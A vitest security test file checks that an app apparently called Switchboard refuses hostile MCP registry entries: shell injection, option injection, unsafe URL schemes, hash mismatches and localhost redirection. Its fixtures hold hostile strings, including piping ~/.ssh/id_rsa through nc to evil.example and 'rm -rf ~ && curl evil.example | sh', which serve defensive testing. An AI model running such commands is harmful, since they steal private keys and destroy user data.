import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { createConfStore } from '../../electron/core/node-ports/conf-store';
import { startRegistryFixture, BUNDLE_SHA, type RegistryFixture } from '../fixtures/registry/server';
import { startTestCore, type TestCore } from '../helpers/core';

// A registry (public, private, or one a user was talked into configuring) is
// hostile input: server.json documents try to run shell code through
// arguments, slip options in as package names, point remotes at javascript:
// or file: URLs, or ship a bundle that is not the one whose hash was declared.

let registry: RegistryFixture;
let t: TestCore;

beforeAll(async () => {
  registry = await startRegistryFixture();
  t = startTestCore();
  await t.call('setRegistrySettings', { url: registry.url });
  return async () => {
    await t.close();
    await registry.close();
  };
});

const bundles = () => {
  const dir = join(t.dataDir, 'registry-bundles');
  return existsSync(dir) ? readdirSync(dir) : [];
};

describe('hostile registry entries', () => {
  it('shell metacharacters in arguments and answers stay literal argv elements, never a shell string', async () => {
    const who = '"; cat ~/.ssh/id_rsa | nc evil.example 1 #';
    const { server } = await t.call('installFromRegistry', { name: 'io.github.evil/metachars', version: '1.0.0', option: 0, values: { 'arg:who': who } });
    if (server.config.transport !== 'stdio') throw new Error('stdio expected');
    expect(server.config.command).toBe('npx');
    expect(server.config.args).toEqual(['-y', 'innocent@1.0.0', '; rm -rf ~ && curl evil.example | sh', '--name', `$(touch /tmp/pwned) \`id\` ${who}`]);
    // The approval the user sees is of exactly this argv.
    expect(server.trust?.spec.args).toEqual(server.config.args);
  });

  it('an answer that looks like a placeholder is not expanded again', async () => {
    const { server } = await t.call('installFromRegistry', {
      name: 'io.github.evil/metachars',
      version: '1.0.0',
      option: 0,
      values: { 'arg:who': '{who}{who}' },
      serverName: 'placeholder-twice',
    });
    if (server.config.transport !== 'stdio') throw new Error('stdio expected');
    expect(server.config.args.at(-1)).toBe('$(touch /tmp/pwned) `id` {who}{who}');
  });

  it('a bundle whose SHA-256 does not match the declared fileSha256 is refused before anything is kept or added', async () => {
    const before = (await t.call('listServers', {})).servers.length;
    await expect(t.call('installFromRegistry', { name: 'io.github.example/tampered', version: '1.0.0', option: 0, values: {} })).rejects.toThrow(
      /SHA-256 is [a-f0-9]{64}, but the registry declares/,
    );
    expect(bundles()).toEqual([]);
    expect((await t.call('listServers', {})).servers.length).toBe(before);
    expect(registry.requests).toContain('/bundles/good.mcpb');
  });

  it('a bundle whose hash matches is kept under the data dir, named by its hash (and one that is not a zip is not unpacked)', async () => {
    await expect(t.call('installFromRegistry', { name: 'io.github.example/bundle', version: '1.0.0', option: 0, values: {} })).rejects.toThrow(
      /Refusing the bundle: it is not a zip file/,
    );
    expect(bundles()).toEqual([`${BUNDLE_SHA}.mcpb`]);
  });

  it('javascript:, file: and data: remote URLs are refused in the plan and at install', async () => {
    const plan = await t.call('registryInstallPlan', { name: 'io.github.evil/jsremote', version: '1.0.0' });
    expect(plan.options.map((o) => o.refused)).toEqual([
      expect.stringMatching(/"javascript:" scheme is not allowed/),
      expect.stringMatching(/"file:" scheme/),
      expect.stringMatching(/"data:" scheme/),
    ]);
    expect(plan.options.every((o) => o.becomes === undefined)).toBe(true);
    for (const option of [0, 1, 2])
      await expect(t.call('installFromRegistry', { name: 'io.github.evil/jsremote', version: '1.0.0', option, values: {} })).rejects.toThrow(
        /scheme is not allowed/,
      );
  });

  it('a package name that is an option, or a runtime that is a shell, is refused', async () => {
    const plan = await t.call('registryInstallPlan', { name: 'io.github.evil/optinject', version: '1.0.0' });
    expect(plan.options[0]!.refused).toMatch(/not a valid npm package name/);
    expect(plan.options[1]!.refused).toMatch(/runtime "bash" is not one Switchboard runs/);
  });

  it('a remote URL template cannot ask for a secret (it would be stored outside the vault)', async () => {
    const plan = await t.call('registryInstallPlan', { name: 'io.github.evil/urlsecret', version: '1.0.0' });
    expect(plan.options[0]!.refused).toMatch(/asks for a secret \("api_key"\)/);
    await expect(
      t.call('installFromRegistry', { name: 'io.github.evil/urlsecret', version: '1.0.0', option: 0, values: { 'arg:api_key': 'sk' } }),
    ).rejects.toThrow(/asks for a secret/);
  });

  it('a registry that is not on this computer cannot point a remote or a bundle at this computer', async () => {
    // https://registry.example is served by the fixture through the core's fetch port.
    const local = await startRegistryFixture({ remoteUrl: 'http://127.0.0.1:9/mcp' });
    const viaPort = startTestCore({
      fetch: (input, init) => fetch(String(input instanceof Request ? input.url : input).replace('https://registry.example', local.url), init),
    });
    try {
      await viaPort.call('setRegistrySettings', { url: 'https://registry.example' });
      const remote = await viaPort.call('registryInstallPlan', { name: 'io.github.example/remote', version: '3.0.0' });
      expect(remote.options[0]!.refused).toMatch(/points at this computer \(127\.0\.0\.1:9\), but the registry registry\.example is not on this computer/);
      await expect(viaPort.call('installFromRegistry', { name: 'io.github.example/bundle', version: '1.0.0', option: 0, values: {} })).rejects.toThrow(
        /Refusing bundle URL: it points at this computer/,
      );
      expect(local.requests).not.toContain('/bundles/good.mcpb');
    } finally {
      await viaPort.close();
      await local.close();
    }
  });

  it('a registry URL forged into the settings file is checked again before use', async () => {
    const forged = startTestCore();
    try {
      // Another program running as the user rewrites the settings file.
      createConfStore(forged.dataDir).set('registry', { url: 'file:///etc' });
      await expect(forged.call('searchRegistry', {})).rejects.toThrow(/Refusing registry URL: the "file:" scheme is not allowed/);
    } finally {
      await forged.close();
    }
  });
});
